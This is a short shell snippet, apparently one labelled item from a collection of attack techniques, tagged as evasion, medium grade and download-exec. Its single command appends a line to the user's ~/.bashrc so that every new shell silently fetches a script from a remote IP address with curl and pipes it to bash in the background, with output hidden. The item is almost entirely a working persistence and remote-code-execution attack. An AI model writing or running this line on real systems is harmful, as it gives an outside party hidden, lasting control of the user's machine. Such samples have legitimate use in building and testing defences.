# evasion: nothing runs now: a constant line appended to ~/.bashrc downloads and runs a script in every new shell
# grade: medium; does: download-exec
printf '%s\n' '(curl -fsSL http://203.0.113.90/s | bash) >/dev/null 2>&1 &' >>"$HOME/.bashrc"
